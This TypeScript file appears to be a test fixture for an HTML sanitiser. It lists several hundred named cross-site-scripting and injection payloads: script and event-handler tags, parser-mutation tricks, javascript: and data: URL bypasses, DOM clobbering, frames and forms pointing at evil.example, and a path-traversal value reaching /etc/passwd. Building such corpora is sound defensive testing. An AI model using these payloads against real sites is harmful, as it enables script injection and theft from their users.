/**
 * Markup and URLs from attacks on sanitisers, each with a name. `attackScript` is the script that each attack tries to
 * run. Attacks load resources from `evil.example`.
 */
export const attackScript = 'top.pwned=(top.pwned||0)+1'
export type Attack = readonly [name: string, text: string]

const image = `<img src=x onerror="${attackScript}">`
const imageInTitle = `<img src=x onerror=&quot;${attackScript}&quot;>`

const scripts: readonly Attack[] = [
  ['script', `<script>${attackScript}</script>`],
  ['script in mixed case', `<ScRiPt SRC=//evil.example/a.js></sCrIpT>`],
  ['script without end', `<script>${attackScript}`],
  ['script of a script', `<scr<script>ipt>${attackScript}</scr</script>ipt>`],
  ['script with a slash', `<script/src="https://evil.example/a.js"></script>`],
  ['script after a line break', `<script\n\r\f\t>${attackScript}</script >`],
  ['script after a null', `<\0script>${attackScript}</script><scr\0ipt>${attackScript}</script>`],
  ['script as module', `<script type="module">${attackScript}</script>`],
  ['script of JSON', `<script type="application/json">{"a":1}</script><script>${attackScript}</script>`],
  ['import map', `<script type="importmap">{"imports":{"/a":"https://evil.example/a.js"}}</script>`],
  ['speculation rules', `<script type="speculationrules">{"prefetch":[{"urls":["/x"]}]}</script>`],
  ['script in svg', `<svg><script href="https://evil.example/a.js"/><script>${attackScript}</script></svg>`],
  ['script with entities in svg', `<svg><script>top&#46;pwned&#61;1</script></svg>`],
  ['end of a script', `</script><script>${attackScript}</script>`],
  ['end of a style', `</style><script>${attackScript}</script>`],
  ['end of a title', `</title><script>${attackScript}</script>`],
  ['end of a text area', `--></textarea><script>${attackScript}</script>`],
  ['end of everything', `</div></section></main></body></html><script>${attackScript}</script>`],
  ['comment that ends early', `<!--><script>${attackScript}</script>-->`],
  ['comment with a dash', `<!--->${image}-->`],
  ['comment with an exclamation mark', `<!-- --!>${image} -->`],
  ['comment in a comment', `<!-- <!-- -->${image}-->`],
  ['conditional comment', `<!--[if gte IE 4]><script>${attackScript}</script><![endif]-->`],
  ['character data', `<![CDATA[<script>${attackScript}</script>]]>`],
  ['character data in svg', `<svg><![CDATA[><image xlink:href="]]>${image}"></svg>`],
  ['processing instruction', `<?xml-stylesheet href="javascript:${attackScript}"?><?php ${image} ?>`],
  ['document type', `<!DOCTYPE x [<!ENTITY e "${image}">]>&e;`],
  ['open tag at the end', `<img src=x onerror=${attackScript} `],
  ['open attribute at the end', `<a title="${image}`],
  ['less-than twice', `<<script>${attackScript}//<</script>`],
  ['end tag with attributes', `</p onmouseover=${attackScript}><p>x</p x=<script>>`],
  ['entities for tags', `&lt;script&gt;${attackScript}&lt;/script&gt;`],
  ['entities for tags, twice', `&amp;lt;script&amp;gt;${attackScript}&amp;lt;/script&amp;gt;`],
  ['brackets of other scripts', `\uff1cscript\uff1e${attackScript}\uff1c/script\uff1e`],
  ['other character set', `+ADw-script+AD4-${attackScript}+ADw-/script+AD4-`],
]

const handlers: readonly Attack[] = [
  ['picture that fails', image],
  ['picture without quotes', `<img src=x onerror=${attackScript}>`],
  ['picture with slashes', `<img/src="x"/onerror=${attackScript}>`],
  ['picture in upper case', `<IMG SRC=x ONERROR="${attackScript}">`],
  ['picture called image', `<image src=x onerror="${attackScript}">`],
  ['picture with a null', `<img src=x on\0error=${attackScript}>`],
  ['picture with three quotes', `<img """><script>${attackScript}</script>">`],
  ['picture with grave accents', `<img src="/a" alt="\`\` onerror=${attackScript}">`],
  ['picture with a form feed', `<img\fsrc=x\fonerror=${attackScript}>`],
  ['picture with an equals sign first', `<img =x src=x onerror=${attackScript}>`],
  ['picture with a doubled attribute', `<img src="/a" src=x onerror=${attackScript} onerror="">`],
  ['picture as large as it likes', `<img src="/a.png" width="99999999" height="99999999" sizes="x">`],
  ['set of pictures', `<img src="/a" srcset="javascript:${attackScript} 2x, https://evil.example/a.png 1x">`],
  [
    'picture element',
    `<picture><source srcset="https://evil.example/a.png"><img src=x onerror=${attackScript}></picture>`,
  ],
  ['picture elsewhere', '<img src="https://evil.example/a.png">'],
  ['picture elsewhere without a scheme', '<img src="//evil.example/a.png"><img src="/\\evil.example/b.png">'],
  ['picture over http', '<img src="http://evil.example/a.png">'],
  ['lazy picture', '<img loading=lazy src="https:evil.example/a.png"><img src="\\\\evil.example/b.png">'],
  ['body', `<body onload="${attackScript}" background="https://evil.example/a.png">`],
  ['frame set', `<frameset onload="${attackScript}"><frame src="javascript:${attackScript}"></frameset>`],
  ['svg', `<svg onload=${attackScript}>`],
  ['svg with a slash', `<svg/onload=${attackScript}//>`],
  ['focus', `<a href="/" onfocus="${attackScript}" autofocus tabindex=1 accesskey=x contenteditable>x</a>`],
  ['input', `<input autofocus onfocus="${attackScript}"><select autofocus onfocus=${attackScript}></select>`],
  ['details', `<details open ontoggle=${attackScript}><summary>x</summary></details>`],
  ['dialog', `<dialog open onclose=${attackScript}>x</dialog>`],
  ['popover', `<p popover id=x onbeforetoggle=${attackScript}>x</p><button popovertarget=x>x</button>`],
  ['marquee', `<marquee onstart=${attackScript} loop=1 width=0>x</marquee>`],
  ['media', `<video><source onerror="${attackScript}"></video><audio src=x onerror=${attackScript}></audio>`],
  [
    'media elsewhere',
    '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png" autoplay></video>',
  ],
  [
    'animation',
    `<p style="animation:a 1s" onanimationstart=${attackScript}>x</p><style>@keyframes a{}</style>`,
  ],
  ['transition', `<p id=x tabindex=1 ontransitionend=${attackScript} style="transition:outline 1s">x</p>`],
  ['pointer', `<p onpointerover=${attackScript} onmouseover=${attackScript} onclick=${attackScript}>x</p>`],
  [
    'scroll',
    `<div onscrollend=${attackScript} onscrollsnapchange=${attackScript} style=overflow:scroll>x</div>`,
  ],
  [
    'content visibility',
    `<p oncontentvisibilityautostatechange=${attackScript} style=content-visibility:auto>x`,
  ],
  ['key', `<link accesskey=x onclick=${attackScript} rel=x>`],
  ['attribute that ends a title', `<a title="&quot; onclick=${attackScript} x=&quot;" href="/a">x</a>`],
  ['attribute that contains a tag', `<p title="</p>${imageInTitle}">x</p>`],
  ['attribute name that contains a tag', `<p "><script>${attackScript}</script>"=x>y</p>`],
  ['attribute name with a bracket', `<p x<y onclick=${attackScript}>z</p>`],
  ['attribute without value at the end', `<p class= onclick=${attackScript}>x</p>`],
  ['attribute separated by a slash', `<p/onclick=${attackScript}/class="lead">x</p>`],
  [
    'custom element',
    `<x-a onclick=${attackScript}>x</x-a><constructor>x</constructor><__proto__ onclick=${attackScript}>y</__proto__>`,
  ],
  [
    'attribute of a prototype',
    `<p constructor=x __proto__=y hasownproperty=z>x</p><a constructor href="/">y</a>`,
  ],
]

/** Attacks that exploit parser rules: other namespaces, raw text, and elements that the parser moves. */
const mutations: readonly Attack[] = [
  [
    'math with a style',
    `<math><mtext><table><mglyph><style><!--</style>${imageInTitle}--></style></mglyph></table></mtext></math>`,
  ],
  ['math with a form', `<form><math><mtext></form><form><mglyph><style></math>${image}`],
  ['math with a title', `<math><mtext><table><mglyph><style><math><table id="</table>${imageInTitle}">`],
  ['math with a mark', `<math><mi><table><malignmark><style><a title="</style>${imageInTitle}">`],
  [
    'math with an annotation',
    `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  ],
  [
    'math with a link',
    `<math href="javascript:${attackScript}">x</math><math><maction actiontype="statusline" xlink:href="javascript:${attackScript}">x`,
  ],
  ['svg with a style', `<svg><style><img src=x onerror="${attackScript}"></style></svg>`],
  ['svg after a paragraph', `<svg></p><style><a id="</style>${imageInTitle}">`],
  ['svg with a description', `<svg><desc><noscript>${image}</noscript></desc></svg>`],
  [
    'svg with a foreign object',
    `<svg><foreignObject><iframe srcdoc="${imageInTitle}"></iframe></foreignObject></svg>`,
  ],
  ['svg with a title', `<svg><title><style></title>${image}</style></svg>`],
  [
    'svg in math',
    `<math><annotation-xml><svg><desc><style>${image}</style></desc></svg></annotation-xml></math>`,
  ],
  ['svg with an animation', `<svg><animate onbegin=${attackScript} attributeName=x dur=1s></svg>`],
  [
    'svg with an animated link',
    `<svg><a><animate attributeName=href values="javascript:${attackScript}" /><text y=20>x</text></a></svg>`,
  ],
  [
    'svg with a set link',
    `<svg><a><set attributeName="xlink:href" to="javascript:${attackScript}" /><rect width=99 height=99 /></a></svg>`,
  ],
  [
    'svg with a use',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${attackScript}</script></svg>#x"></svg>`,
  ],
  [
    'svg with a picture',
    '<svg><image href="https://evil.example/a.svg"/><feImage href="https://evil.example/b.svg"/></svg>',
  ],
  [
    'svg with a handler',
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${attackScript}</handler></svg>`,
  ],
  ['svg in capitals', `<SVG ONLOAD=${attackScript}><SCRIPT>${attackScript}</SCRIPT></SVG>`],
  ['noscript', `<noscript><p title="</noscript>${imageInTitle}"></noscript>`],
  ['noscript in a table', `<table><noscript><style></noscript>${image}</style></table>`],
  ['style in a style', `<style><style/></style>${image}</style>`],
  ['style in an attribute', `<p id="</style>${imageInTitle}"><style><p id="</style>${imageInTitle}">`],
  ['title', `<title><p title="</title>${imageInTitle}"></title>`],
  ['text area', `<textarea><p title="</textarea>${imageInTitle}"></textarea>`],
  ['text area in svg', `<svg><textarea><title></textarea>${image}</svg>`],
  ['xmp', `<xmp><p title="</xmp>${imageInTitle}"></xmp>`],
  ['no embed', `<noembed><p title="</noembed>${imageInTitle}"></noembed>`],
  ['no frames', `<noframes><p title="</noframes>${imageInTitle}"></noframes>`],
  ['plain text', `<plaintext>${image}`],
  ['listing', `<listing>&lt;img src=x onerror="${attackScript}"&gt;</listing>`],
  ['preformatted', `<pre>\n\n&lt;img src=x onerror=${attackScript}&gt;</pre>`],
  ['template', `<template><script>${attackScript}</script></template>`],
  ['template in a template', `<template><template>${image}</template></template></template>${image}`],
  [
    'declared shadow',
    `<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style>${image}</template></div>`,
  ],
  ['option', `<select><option>&lt;script&gt;${attackScript}&lt;/script&gt;</option></select>`],
  [
    'select with markup',
    `<select><template><style><!--</style><a rel="--></style>${imageInTitle}"></template></select>`,
  ],
  ['select with a script', `<select><style></select>${image}</style>`],
  ['frame with text', `<iframe><p title="</iframe>${imageInTitle}"></iframe>`],
  [
    'known frame with text',
    `<iframe src="https://www.youtube.com/embed/a"><p title="</iframe>${imageInTitle}"></iframe>`,
  ],
  [
    'table that gives away',
    `<table><tr><td><table><a href="javascript:${attackScript}">x</a>${image}</table>`,
  ],
  ['caption that moves', `<table><caption><svg><style></caption>${image}</style></table>`],
  ['many formatting elements', `${'<b><i><a href=/>'.repeat(40)}<p>x</p>${'</b></i></a>'.repeat(40)}`],
  ['links in links', `<a href="/1"><div><a href="/2"><table><a href="/3">x</a></table></a></div></a>`],
  ['deep', `${'<div>'.repeat(600)}<math><style>${image}`],
]

/** Attacks that close the elements around the text, or cover the whole page. */
const escapes: readonly Attack[] = [
  ['end tags', '</div></div></li></ul></section></main></body></html>'],
  ['item in an item', '<ul><li><div><li>x</li></div></li></ul>'],
  ['item without a list', '<li>x</li><div><li>y</li></div>'],
  ['term without a list', '<dt>x</dt><dd>y</dd><div><dd>z</dd></div>'],
  ['term in a term', '<dl><dd><div><dd>x</dd></div></dd></dl>'],
  ['table in a table', '<table><div><table></table></div></table>'],
  ['row in a division', '<table><div><tr><td>x</td></tr></div></table>'],
  ['cells without a table', '<td>x</td></tr><tr><th>y</th></table>'],
  ['heading in a heading', '<h2><h3>x</h3></h2></h2></h3>'],
  ['paragraph that is never open', '</p></p></br></p>'],
  ['formatting without end', '<b><i><u><s><small><code>x<p>y'],
  ['link without end', '<a href="/x">x<p>y<table><tr><td><a href="/y">z'],
  ['list that another tag wraps', '<ul><li><section><div><li>x</li></div></section></li></ul>'],
  ['overlay', '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>'],
  ['overlay by class', '<div class="site-header skip-link hide-desktop sr-only hidden-region">x</div>'],
  [
    'overlay by style',
    '<style>*{display:none!important}body{background:url(https://evil.example/a.png)}</style>',
  ],
  [
    'imported style',
    '<style>@import "https://evil.example/a.css";</style><link rel=stylesheet href="https://evil.example/b.css">',
  ],
  [
    'style as an expression',
    `<p style="width:expression(${attackScript});-moz-binding:url(https://evil.example/x)">x</p>`,
  ],
  [
    'style with a picture',
    '<p style="background:url(https://evil.example/a.png);list-style-image:url(//evil.example/b)">x</p>',
  ],
  ['font', '<font face="x" color="red" size="7">x</font><center>y</center><blink>z</blink>'],
  ['wide word', 'x'.repeat(4000)],
  ['wide table', `<table><tr>${'<td>wide</td>'.repeat(60)}</tr></table>`],
  ['wide cell', '<table><tr><td colspan="1000" rowspan="65534">x</td></tr></table>'],
  ['wide preformatted text', `<pre>${'x'.repeat(4000)}</pre>`],
  ['bidirectional override', '\u202e\u202d\u2066\u2067x\u202bواحد'],
  ['many combining marks', `x${'\u0301'.repeat(500)}`],
  ['line separators', 'a\u2028b\u2029c\u0085d'],
  ['half a surrogate pair', '\ud800x\udfff'],
  ['null', '\0a\0<\0b>\0'],
]

const documents: readonly Attack[] = [
  ['base', '<base href="https://evil.example/"><base target="_blank">'],
  ['refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['policy', `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`],
  ['character set', '<meta charset="utf-7">'],
  [
    'form',
    `<form action="https://evil.example/" id=x><input name=action><button formaction="javascript:${attackScript}">x</button></form>`,
  ],
  [
    'button for a form',
    `<button form=x formaction="javascript:${attackScript}">x</button><input type=image src=x onerror=${attackScript}>`,
  ],
  [
    'key generator',
    `<keygen autofocus onfocus=${attackScript}><isindex type=image src=x onerror=${attackScript}>`,
  ],
  ['object', `<object data="javascript:${attackScript}" type="text/html"></object>`],
  ['object with a parameter', `<object><param name="src" value="javascript:${attackScript}"></object>`],
  ['embed', '<embed src="https://evil.example/a.swf" type="text/html">'],
  ['applet', '<applet code="https://evil.example/a.class"></applet>'],
  [
    'portal',
    '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
  ],
  ['frame', `<iframe src="javascript:${attackScript}"></iframe>`],
  ['frame elsewhere', '<iframe src="https://evil.example/"></iframe>'],
  ['frame with a document', `<iframe srcdoc="&lt;script&gt;${attackScript}&lt;/script&gt;"></iframe>`],
  [
    'known frame with a document',
    `<iframe src="https://www.youtube.com/embed/a" srcdoc="<script>${attackScript}</script>" onload=${attackScript}></iframe>`,
  ],
  ['frame with a look-alike', '<iframe src="https://www.youtube.com.evil.example/embed/a"></iframe>'],
  ['frame with a user', '<iframe src="https://www.youtube.com@evil.example/embed/a"></iframe>'],
  ['frame with a back slash', '<iframe src="https://evil.example\\@www.youtube.com/"></iframe>'],
  ['frame without a scheme', '<iframe src="//evil.example/www.youtube.com"></iframe>'],
  ['frame with data', `<iframe src="data:text/html,<script>${attackScript}</script>"></iframe>`],
  [
    'links of a head',
    '<link rel="preload" as="script" href="https://evil.example/a.js"><link rel=dns-prefetch href=//evil.example>',
  ],
  [
    'manifest',
    '<link rel="manifest" href="https://evil.example/a.json"><link rel="icon" href="https://evil.example/a.ico">',
  ],
  [
    'clobbered names',
    '<a id="location" name="body">x</a><img name="cookie" id="title" src="/a"><form name="documentElement" id="scripts">',
  ],
  [
    'clobbered tree',
    '<form id=main><input name=childNodes><input id=attributes name=nodeName></form><a id=main><a id=main name=href>',
  ],
  ['named frames', '<iframe name="self"></iframe><img id="top" name="getElementById" src="/a">'],
  [
    'microdata and data',
    '<p itemscope itemid="javascript:x" data-video="javascript:x" data-view-change data-block-id=x>x</p>',
  ],
  [
    'parts and slots',
    '<p slot="x" part="y" is="x-a" exportparts="z" nonce="a" aria-hidden="true" role="dialog" hidden inert>x</p>',
  ],
  ['a façade of its own', `<a class="video" data-video="javascript:${attackScript}" href="/x">play</a>`],
  ['a data block of its own', '<div data-provider-type="page">{"url":"x"}</div>'],
]

/** URLs that are not allowed in a link, an image or a frame. */
export const urlAttacks: readonly string[] = [
  `javascript:${attackScript}`,
  `JaVaScRiPt:${attackScript}`,
  `jav\tascript:${attackScript}`,
  `java\r\nscript:${attackScript}`,
  `\u0001\u001fjavascript:${attackScript}`,
  `java&#x73;cript:${attackScript}`,
  `java&amp;#x73;cript:${attackScript}`,
  `javascript&colon;${attackScript}`,
  `java&Tab;script&NewLine;:${attackScript}`,
  `&#0000106avascript:${attackScript}`,
  `jav%61script:${attackScript}`,
  `\u00a0\ufeffjavascript:${attackScript}`,
  `java\u200bscript:${attackScript}`,
  `javascript:/*--></title></style>${attackScript}//`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${attackScript}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${attackScript}'/>`,
  `blob:https://evil.example/1`,
  `filesystem:https://evil.example/temporary/a.html`,
  `view-source:https://evil.example/`,
]

/** Attacks with the given URLs: each URL in a link and in an image, and some URLs in other tags. */
const addresses: readonly Attack[] = [
  ...urlAttacks.map((url): Attack => [
    `address ${JSON.stringify(url.slice(0, 40))}`,
    `<a href="${url.replaceAll('"', '&quot;')}">link</a><img src="${url.replaceAll('"', '&quot;')}" alt="">`,
  ]),
  ['link with two schemes', `<a href="javascript:x" href="/a" xlink:href="javascript:${attackScript}">x</a>`],
  [
    'link with a ping',
    '<a href="/a" ping="https://evil.example/" download attributionsrc="https://evil.example/">x</a>',
  ],
  ['link without quotes', `<a href=javascript:${attackScript} target=_top rel=opener>x</a>`],
  [
    'map',
    `<map name=x><area href="javascript:${attackScript}" shape=default></map><img usemap="#x" src="/a">`,
  ],
  [
    'quotation',
    `<blockquote cite="javascript:${attackScript}">x</blockquote><q cite="javascript:${attackScript}">y</q>`,
  ],
  [
    'background',
    '<table background="https://evil.example/a.png"><tr><td background="//evil.example/b.png">x</table>',
  ],
  [
    'expression that is none',
    '{!Item.constructor.constructor}{!Record.__proto__}{!alert(1)}{!{!Item.title}}',
  ],
  [
    'expression up the tree',
    '<img src="{!asset.../../etc/passwd}"><img src="{!cmsMedia.../../x}">{!Label.__proto__.x}{!Site.constructor}',
  ],
]

export const markupAttacks: readonly Attack[] = [
  ...scripts,
  ...handlers,
  ...mutations,
  ...escapes,
  ...documents,
  ...addresses,
]
